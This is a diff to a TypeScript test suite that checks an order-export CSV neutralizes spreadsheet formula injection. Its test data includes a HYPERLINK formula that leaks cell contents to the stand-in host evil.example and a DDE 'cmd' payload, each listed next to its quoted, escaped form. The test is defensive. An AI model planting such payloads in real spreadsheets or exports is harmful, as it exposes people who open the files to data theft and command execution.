@@ -36,6 +36,22 @@ const HOSTILE = [
   'Doe, "Jr."\r\nSecond line',
   'Ünïcødé 名前 Ω',
 ];
+/**
+ * Each hostile name and carrier field as a spreadsheet must read it, written out by hand (not
+ * by the rule under test): a leading = + - @ tab or CR is shown as text behind a quote.
+ */
+const AS_CELL: Record<string, string> = {
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")': `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
+  '+91 98450 12345': "'+91 98450 12345",
+  "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+  '@SUM(A1:A9)': "'@SUM(A1:A9)",
+  '\tTabbed Name': "'\tTabbed Name",
+  'Doe, "Jr."\r\nSecond line': 'Doe, "Jr."\r\nSecond line',
+  'Ünïcødé 名前 Ω': 'Ünïcødé 名前 Ω',
+  '=Evil Carrier': "'=Evil Carrier",
+  '-BD123': "'-BD123",
+};
+const cellOf = (v: string): string => AS_CELL[v] ?? v;
 const inMarch = (i: number) => new Date(Date.UTC(2026, 2, 1 + (i % 31), i % 24, i % 60, i % 60));
 
 /**
@@ -128,7 +144,6 @@ describe('order exports', () => {
     const orders = new Map(
       (await Order.find({ orderId: { $in: rows.map((r) => r[0]) } }).lean()).map((o) => [o.orderId, o]),
     );
-    const asText = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
     for (const row of rows) {
       const o = orders.get(row[0]);
       expect(row).toEqual([
@@ -137,17 +152,18 @@ describe('order exports', () => {
         o?.status,
         o?.customerId ?? '',
         o?.customerEmail,
-        asText(o?.customerName ?? ''),
+        cellOf(o?.customerName ?? ''),
         String(o?.itemCount),
         ((o?.totalAmount ?? 0) / 100).toFixed(2),
         o?.cancelledAt ? o.cancelledAt.toISOString() : '',
-        o?.shipment ? asText(o.shipment.carrier) : '',
-        o?.shipment ? asText(o.shipment.trackingNumber) : '',
+        o?.shipment ? cellOf(o.shipment.carrier) : '',
+        o?.shipment ? cellOf(o.shipment.trackingNumber) : '',
       ]);
     }
     // Every hostile name came back as text, and the file says so in RFC 4180 terms.
     const names = new Set(rows.map((r) => r[5]));
-    for (const name of HOSTILE) expect(names).toContain(asText(name));
+    expect(Object.keys(AS_CELL)).toEqual(expect.arrayContaining(HOSTILE));
+    for (const name of HOSTILE) expect(names).toContain(cellOf(name));
     expect(file.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
     expect(file.text).toContain('"Doe, ""Jr.""\r\nSecond line"');
     expect(file.text).toContain(",'-BD123\r\n");
